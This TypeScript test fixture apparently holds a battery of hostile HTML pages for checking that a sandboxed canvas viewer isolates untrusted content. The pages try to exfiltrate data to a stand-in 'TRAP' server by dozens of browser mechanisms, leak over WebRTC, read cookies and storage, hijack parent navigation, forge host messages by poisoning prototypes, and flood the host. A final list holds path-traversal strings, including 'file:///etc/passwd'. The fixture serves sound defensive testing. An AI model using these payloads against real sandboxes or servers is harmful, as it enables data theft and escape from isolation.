/** What a hostile document of a canvas tries that is read over its channel. */
export interface RelayedAttack {
  readonly name: string;
  /** `TRAP` is the address of a server that counts what comes, and `STUN` of one that counts packets. */
  readonly html: string;
  /** Other files of the same canvas. */
  readonly files?: Readonly<Record<string, string>>;
  /** What it must have said; it says `done` in the end. */
  readonly says?: RegExp;
  /** It is taken down, and this is why. */
  readonly ends?: "left" | "flood";
  /** A navigation that is refused may still look up a name and connect, without asking for anything. */
  readonly mayConnect?: true;
}

const SAY = "<script>const say = (words) => parent.postMessage({ said: String(words) }, '*');</script>";
/** Last, and a while after everything else: what it tried has had its time. */
const DONE = "<script>addEventListener('load', () => setTimeout(() => say('done'), 700));</script>";
const page = (inside: string) => `<!doctype html><html><head>${SAY}</head><body>${inside}${DONE}</body></html>`;
const script = (code: string) => page(`<script>${code}</script>`);
/** Runs each, whatever becomes of the others. */
const each = (...codes: string[]) =>
  script(`for (const run of [${codes.map((code) => `async () => { ${code} }`).join(", ")}]) run().catch(() => {});`);
/** Says what each of these gives, or that it threw. */
const tried = (...codes: string[]) =>
  script(
    `(async () => { const got = []; for (const run of [${codes.map((code) => `async () => ${code}`).join(", ")}]) got.push(await run().catch(() => 'threw')); say(got.join('\\n')); })();`,
  );

/** Sends packets to the server `STUN` from whatever window it runs in. */
const CALL = `const call = new RTCPeerConnection({ iceServers: [{ urls: 'STUN' }] }); call.createDataChannel('a'); call.createOffer().then((offer) => call.setLocalDescription(offer));`;
const HIDDEN = `<script>${CALL}</script>`;
const quoted = JSON.stringify(HIDDEN).replaceAll("<", "\\u003c");
/** Puts other functions in the place of those by which a frame could be found, and an answer told from a forged one. */
const BLINDED = `for (const [owner, names] of [[Element.prototype, 'querySelectorAll matches remove getAttribute removeAttribute setAttribute replaceWith'], [Document.prototype, 'querySelectorAll createElement'],
    [Node.prototype, 'insertBefore'], [NodeList.prototype, 'item'], [Reflect, 'apply'], [WeakMap.prototype, 'get set'], [Function.prototype, 'call apply bind'], [Promise.prototype, 'then'], [Array.prototype, 'push']])
    for (const name of names.split(' ')) owner[name] = () => null;
  Array.prototype[Symbol.iterator] = function* () {}; Object.defineProperty(NodeList.prototype, 'length', { get: () => 0 });
  Object.defineProperty(MutationRecord.prototype, 'addedNodes', { get: () => [] }); Object.defineProperty(Node.prototype, 'nodeType', { get: () => 3 });
  Object.defineProperty(MessageEvent.prototype, 'data', { get: () => ({ id: 1, answer: { kind: 'page', html: ${quoted}, number: 1 } }) });
  Object.prototype.then = function (yes) { yes({ kind: 'page', html: ${quoted}, number: 1 }); }; Object.prototype.kind = 'page'; Object.prototype.html = ${quoted};
  Object.defineProperty(Array.prototype, '0', { set() {}, get() {}, configurable: true }); Object.prototype.get = () => 1;`;

const MADE = [
  ["img", "src"],
  ["img", "srcset"],
  ["script", "src"],
  ["video", "src"],
  ["video", "poster"],
  ["audio", "src"],
  ["embed", "src"],
  ["object", "data"],
  ["source", "src"],
  ["track", "src"],
  ["input", "src"],
  ["body", "background"],
];
const RELS =
  "stylesheet preload prefetch preconnect dns-prefetch modulepreload prerender manifest icon apple-touch-icon next search import pingback";

export const RELAYED_ATTACKS: readonly RelayedAttack[] = [
  {
    name: "asks by every means that scripts have",
    html: each(
      "await fetch('TRAP/fetch')",
      "await fetch('TRAP/keep', { keepalive: true, mode: 'no-cors', method: 'POST', body: 'a' })",
      "await fetch(new Request('TRAP/request'))",
      "const ask = new XMLHttpRequest(); ask.open('POST', 'TRAP/xhr'); ask.send('a')",
      "const ask = Object.getPrototypeOf(XMLHttpRequest); const native = new ask(); native.open('GET', 'TRAP/native'); native.send()",
      "const ask = new (Object.getPrototypeOf(XMLHttpRequest))(); ask.open('GET', 'TRAP/sync', false); ask.send()",
      "new WebSocket('TRAP/socket'.replace('http', 'ws'))",
      "new WebSocketStream('TRAP/stream'.replace('http', 'ws'))",
      "new EventSource('TRAP/events')",
      "new WebTransport('TRAP/transport'.replace('http', 'https'))",
      "navigator.sendBeacon('TRAP/beacon', 'a')",
      "fetchLater('TRAP/later', { activateAfter: 0 })",
      "await import('TRAP/import.js')",
      "new Worker('TRAP/worker.js')",
      "new Worker(URL.createObjectURL(new Blob(['fetch(\"TRAP/in-worker\")'])))",
      "new Worker('data:text/javascript,fetch(\"TRAP/in-data-worker\")')",
      "new SharedWorker('TRAP/shared.js')",
      "await navigator.serviceWorker.register('TRAP/service.js')",
      "await new AudioContext().audioWorklet.addModule('TRAP/audio.js')",
      "await CSS.paintWorklet.addModule('TRAP/paint.js')",
      "await new FontFace('a', 'url(TRAP/face)').load()",
      "new Audio('TRAP/sound').play()",
      "await new PaymentRequest([{ supportedMethods: 'TRAP/pay' }], { total: { label: 'a', amount: { currency: 'EUR', value: '1' } } }).show()",
      "await navigator.credentials.get({ identity: { providers: [{ configURL: 'TRAP/identity', clientId: 'a' }] } })",
      "new PresentationRequest('TRAP/present').start()",
      "navigator.registerProtocolHandler('web+a', 'TRAP/%s')",
      "const sheet = new CSSStyleSheet(); sheet.replaceSync('body { background: url(TRAP/sheet) }'); document.adoptedStyleSheets = [sheet]",
      "document.styleSheets[0] ?? document.head.append(document.createElement('style')); document.styleSheets[0].insertRule('html { background: url(TRAP/rule) }')",
      "document.body.style.backgroundImage = 'url(TRAP/style)'",
      "await WebAssembly.instantiateStreaming(fetch('TRAP/wasm'))",
      CALL,
    ),
  },
  {
    name: "loads by every element that a parser makes",
    html: page(`<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'"><meta http-equiv="x-dns-prefetch-control" content="on">
      <base href="TRAP/base/"><link rel="preconnect" href="TRAP">${RELS.split(" ")
        .map((rel) => `<link rel="${rel}" as="image" href="TRAP/link-${rel}" imagesrcset="TRAP/set-${rel} 1x">`)
        .join("")}
      <img src="TRAP/img"><img srcset="TRAP/srcset 1x, TRAP/srcset-2 2x"><img src="relative.png"><picture><source srcset="TRAP/source"><img></picture><img attributionsrc="TRAP/attribution">
      <svg><image href="TRAP/image"/><image xlink:href="TRAP/xlink"/><use href="TRAP/use#a"/><feImage href="TRAP/fe"/><script href="TRAP/svg-script"></script><style>@import "TRAP/svg-style";</style><a href="TRAP/svg-a"><text>a</text></a></svg>
      <input type="image" src="TRAP/input"><video src="TRAP/video" poster="TRAP/poster"><source src="TRAP/video-source"><track default src="TRAP/track"></video><audio autoplay src="TRAP/audio"></audio>
      <object data="TRAP/object"></object><embed src="TRAP/embed"><applet archive="TRAP/applet"></applet><table background="TRAP/table"><tr><td background="TRAP/td">a</td></tr></table><bgsound src="TRAP/bgsound">
      <style>@import 'TRAP/css'; @import url(TRAP/css-url); @font-face { font-family: a; src: url(TRAP/font) } p { font-family: a; background: url(TRAP/ground), u\\72l(TRAP/escaped), image-set("TRAP/set" 1x); cursor: url(TRAP/cursor), auto; mask: url(TRAP/mask); filter: url(TRAP/filter#a); list-style-image: url(TRAP/list) } p::before { content: url(TRAP/content) }</style>
      <p style="background: url(TRAP/attribute); border-image: url(TRAP/border)">a</p><script src="TRAP/script"></script><script type="module" src="TRAP/module"></script><script type="module">import 'TRAP/static'; import a from 'TRAP/json' with { type: 'json' };</script>
      <script type="importmap">{ "imports": { "outside": "TRAP/mapped" } }</script><script type="module">import "outside";</script><script type="speculationrules">{ "prefetch": [{ "source": "list", "urls": ["TRAP/rules"] }] }</script>
      <a id="ping" href="#" ping="TRAP/ping">a</a><script>ping.click()</script><portal src="TRAP/portal"></portal><math href="TRAP/math"><mi>a</mi></math>`),
    says: /done/,
  },
  {
    name: "loads by every element that a script makes",
    html: script(`const put = (element) => document.body.append(element);
      for (const [tag, name] of ${JSON.stringify(MADE)}) {
        const at = (how) => 'TRAP/' + how + '-' + tag + '-' + name;
        const [set, assigned, node, cloned] = [0, 1, 2, 3].map(() => document.createElement(tag));
        set.setAttribute(name, at('set')); put(set); assigned[name] = at('assigned'); put(assigned);
        const attribute = document.createAttribute(name); attribute.value = at('node'); node.setAttributeNode(attribute); put(node);
        const other = document.implementation.createHTMLDocument().createElement(tag); other.setAttribute(name, at('adopted')); put(other);
        const box = document.createElement('div'); box.innerHTML = '<' + tag + ' ' + name + '="' + at('parsed') + '">'; put(box); put(box.cloneNode(true));
        const fragment = document.createRange().createContextualFragment('<' + tag + ' ' + name + '="' + at('fragment') + '"></' + tag + '>'); put(fragment);
      }
      for (const rel of '${RELS}'.split(' ')) { const link = document.createElement('link'); link.rel = rel; link.as = 'image'; link.href = 'TRAP/made-' + rel; document.head.append(link); }
      for (const text of ["import 'TRAP/made-module'", "import('TRAP/made-import')"]) { const made = document.createElement('script'); made.type = 'module'; made.textContent = text; document.head.append(made); }
      const rules = document.createElement('script'); rules.type = 'speculationrules'; rules.textContent = '{ "prefetch": [{ "source": "list", "urls": ["TRAP/made-rules"] }] }'; document.head.append(rules);
      const map = document.createElement('script'); map.type = 'importmap'; map.textContent = '{ "imports": { "later": "TRAP/made-map" } }'; document.head.append(map); import('later').catch(() => {});
      eval("import('TRAP/eval').catch(() => {})"); new Function("fetch('TRAP/function').catch(() => {})")();
      const base = document.createElement('base'); base.href = 'TRAP/base/'; document.head.prepend(base); put(Object.assign(new Image(), { src: 'after-base.png' }));`),
    says: /done/,
  },
  {
    name: "calls others over WebRTC, in its own window and in frames that it hides",
    html: page(`<div id="a"></div><div><template shadowrootmode="closed"><iframe srcdoc="${HIDDEN}"></iframe></template></div><iframe srcdoc="${HIDDEN}"></iframe><noscript><p title="</noscript><div><template shadowrootmode=closed><iframe srcdoc='${HIDDEN}'></iframe></template></div>"></noscript>
      <script>try { ${CALL} } catch { say('no call'); } document.write('<div><template shadowroot' + 'mode=closed>'); document.write(${quoted});
      const hidden = '<iframe srcdoc="' + ${quoted} + '"></iframe>'; const tree = '<template shadowroot' + 'mode=closed>' + hidden + '</template>';
      const frame = () => { const made = document.createElement('iframe'); made.srcdoc = ${quoted}; return made; };
      const copied = document.createElement('div'); copied.attachShadow({ mode: 'closed', clonable: true }).append(frame()); document.body.append(copied.cloneNode(true), document.importNode(copied, true));
      for (const name of ['setHTMLUnsafe', 'appendHTMLUnsafe']) try { a[name](tree); } catch {} try { document.body.append(Document.parseHTMLUnsafe(tree).body); } catch {}
      const script = document.createElement('iframe'); script.src = 'javascript:' + ${quoted}.replace(/<.?script>/g, ''); document.body.append(script); try { script.contentWindow.eval(''); say('reached'); } catch { say('apart'); }
      const kept = document.createElement('iframe'); kept.srcdoc = '<p>a'; document.body.append(kept); setTimeout(() => { kept.srcdoc = ${quoted}; }, 150);
      const named = document.createElement('iframe'); named.name = 'named'; document.body.append(named); setTimeout(() => { try { open('about:blank', 'named'); frames.named.location = 'javascript:0'; } catch {} }, 100);
      customElements.define('a-frame', class extends HTMLIFrameElement { times = 0; disconnectedCallback() { if (this.times++ < 5) this.srcdoc = ${quoted}; } connectedCallback() { if (this.times++ < 5) this.srcdoc = ${quoted}; } }, { extends: 'iframe' }); document.body.append(document.createElement('iframe', { is: 'a-frame' }));
      setTimeout(() => { const first = frame(); ${BLINDED} a.append(first); a.append(frame()); a.attachShadow({ mode: 'closed' }).append(frame(), frame()); const other = frame(); document.documentElement.append(other); other.src = 'index.html'; }, 200);</script>`),
    says: /no call\napart\ndone/,
  },
  {
    name: "reads what others keep, and learns where it is",
    html: tried(
      "localStorage.length",
      "sessionStorage.length",
      "document.cookie",
      "indexedDB.open('a').result",
      "caches.keys()",
      "parent.document",
      "top.document",
      "parent.frames[0].document.cookie",
      "parent.frame",
      "top.view",
      "top.location.href",
      "parent.location.href",
      "navigator.clipboard.readText()",
      "navigator.storage.getDirectory()",
      "document.documentElement.requestFullscreen()",
      "navigator.mediaDevices.getUserMedia({ video: true })",
      "new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no))",
      "showOpenFilePicker()",
      "queryLocalFonts()",
      "[document.baseURI, document.URL, document.referrer, location.href, window.name, performance.getEntries().map(({ name }) => name)].join(' ')",
    ),
    says: /(?:threw\n){19}ahp-canvas-content:\/[^ ]+ about:srcdoc {2}about:srcdoc {2}about:srcdoc(?:,visible)?$/m,
  },
  {
    name: "leads everybody else elsewhere",
    html: each(
      "parent.location = 'TRAP/parent'",
      "top.location = 'TRAP/top'",
      "top.location.replace('TRAP/top')",
      "open('TRAP/open')",
      "open('TRAP/open-top', '_top')",
      "for (const target of ['_top', '_parent', '_blank', 'other']) { const link = document.createElement('a'); link.href = 'TRAP/link' + target; link.target = target; document.body.append(link); link.click(); }",
      "const form = document.createElement('form'); form.action = 'TRAP/form'; form.method = 'post'; document.body.append(form); for (const target of ['', '_top', '_parent', '_blank']) { form.target = target; form.submit(); form.requestSubmit(); }",
      "const link = document.createElement('a'); link.href = 'TRAP/file'; link.download = 'a'; document.body.append(link); link.click()",
      "alert('a'); confirm('b'); prompt('c'); print()",
      "history.back(); history.go(-2)",
    ),
  },
  ...(
    [
      ["leads itself elsewhere", "location = 'TRAP/self?stolen'"],
      ["leads itself elsewhere by replacing", "setTimeout(() => location.replace('TRAP/replaced'), 100)"],
      ["leads itself elsewhere by a window's name", "open('TRAP/named', '_self')"],
      ["leads itself elsewhere by the navigation of its window", "navigation.navigate('TRAP/navigation')"],
      [
        "leads itself elsewhere by a link that hides its press",
        "const link = document.createElement('a'); link.href = 'TRAP/hidden'; link.onclick = (event) => event.stopPropagation(); document.body.append(link); link.click()",
      ],
      [
        "leads itself elsewhere by a form that hides its sending",
        "const form = document.createElement('form'); form.action = 'TRAP/sent'; form.onsubmit = (event) => event.stopPropagation(); document.body.append(form); form.requestSubmit(); setTimeout(() => { location = 'about:blank' }, 300)",
      ],
      [
        "is refreshed to another page",
        "const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=TRAP/refresh'; document.head.append(meta)",
      ],
      ["leads itself to a page of data", "location = 'data:text/html,<script>fetch(\"TRAP/data\")</' + 'script>'"],
      [
        "leads itself to a page that it made",
        "location = URL.createObjectURL(new Blob(['<script>fetch(\"TRAP/blob\")</' + 'script>'], { type: 'text/html' }))",
      ],
      ["leads itself to nowhere", "setTimeout(() => { location = 'about:blank' }, 100)"],
      ["starts itself anew", "setTimeout(() => location.reload(), 100)"],
      ["starts itself anew without end", "setTimeout(() => { location = 'about:srcdoc' }, 100)"],
    ] as const
  ).map(([name, code]): RelayedAttack => ({ name, html: script(code), ends: "left", mayConnect: true })),
  {
    name: "leads frames of its own elsewhere",
    html: page(`<iframe src="TRAP/frame"></iframe><iframe src="inner.html"></iframe><iframe name="blank"></iframe><iframe src="data:text/html,<script>fetch('TRAP/data-frame')</script>"></iframe><frameset><frame src="TRAP/frameset"></frameset>
      <script>frames.blank.location = 'TRAP/led'; frames[1].location = 'TRAP/led-inner'; const made = document.createElement('iframe'); made.src = 'TRAP/made'; document.body.append(made);
      const parsed = document.createElement('div'); parsed.innerHTML = '<iframe src="TRAP/parsed"></iframe><iframe srcdoc="<img src=TRAP/in-parsed><script>fetch(\`TRAP/fetched\`)</' + 'script>"></iframe><object data="TRAP/object" type="text/html"></object><embed src="TRAP/embed" type="text/html">'; document.body.append(parsed);
      const form = document.createElement('form'); form.action = 'TRAP/form'; form.target = 'blank'; document.body.append(form); HTMLFormElement.prototype.requestSubmit.call(form);</script>`),
    files: {
      "inner.html": `<!doctype html><img src="TRAP/inner-img"><script>fetch('TRAP/inner-fetch').catch(() => {}); new Image().src = 'TRAP/inner-image'; try { ${CALL} } catch {} location = 'TRAP/inner-self';</script>`,
    },
    says: /done/,
    mayConnect: true,
  },
  {
    name: "speaks to the page around it without being asked, and pretends to be one of ours",
    html: script(
      "for (const target of [top, parent]) { const { port2 } = new MessageChannel(); target.postMessage({ type: 'canvas-view:hello' }, '*', [port2]); target.postMessage({ said: target === parent ? 'to the parent' : 'to the top' }, '*'); target.postMessage(new Map([[1, 2]]), '*'); }",
    ),
    says: /^undefined\nto the parent\ndone/,
  },
  {
    name: "sends without end",
    html: script("for (let at = 0; at < 2000; at++) parent.postMessage({ at }, '*')"),
    ends: "flood",
  },
  {
    name: "asks without end",
    html: script("for (let at = 0; at < 6000; at++) fetch('a' + at).catch(() => {})"),
    ends: "flood",
  },
];

/** Ways to write an address outside of the instance, or one that somebody might read so. */
export const OUTSIDE = [
  "../../draft-2/secret.txt",
  "../../../../draft-2/secret.txt",
  "/../draft-2/secret.txt",
  "..%2f..%2fdraft-2%2fsecret.txt",
  "%2e%2e/%2e%2e/draft-2/secret.txt",
  "%2E%2E%2F%2E%2E%2Fdraft-2/secret.txt",
  ".%2e/.%2E/draft-2/secret.txt",
  "%252e%252e/%252e%252e/draft-2/secret.txt",
  "%25252e%25252e/draft-2/secret.txt",
  "%c0%ae%c0%ae/%c0%ae%c0%ae/draft-2/secret.txt",
  "%u002e%u002e/draft-2/secret.txt",
  "..\\..\\draft-2\\secret.txt",
  "..%5c..%5cdraft-2%5csecret.txt",
  "..%00/draft-2/secret.txt",
  "secret.txt%00.png",
  "\t../../draft-2/secret.txt",
  "..\n/../draft-2/secret.txt",
  "//draft-2/secret.txt",
  "///draft-2/secret.txt",
  "\\\\draft-2\\secret.txt",
  "/\\draft-2/secret.txt",
  "a//secret.txt",
  "ahp-canvas-content:/draft-2/secret.txt",
  "ahp-canvas-content://draft-2/secret.txt",
  "AHP-CANVAS-CONTENT:/draft-1/secret.txt",
  "ahp-canvas-content:/draft-1/../draft-2/secret.txt",
  "ahp-canvas-content:/draft-1/%2e%2e/draft-2/secret.txt",
  "ahp-canvas-content:/draft-1/..%2fdraft-2/secret.txt",
  "ahp-canvas-content:draft-1/secret.txt",
  "file:///etc/passwd",
  "file:secret.txt",
  "https:secret.txt",
  "http:/secret.txt",
  "javascript:0",
  "view-source:secret.txt",
];
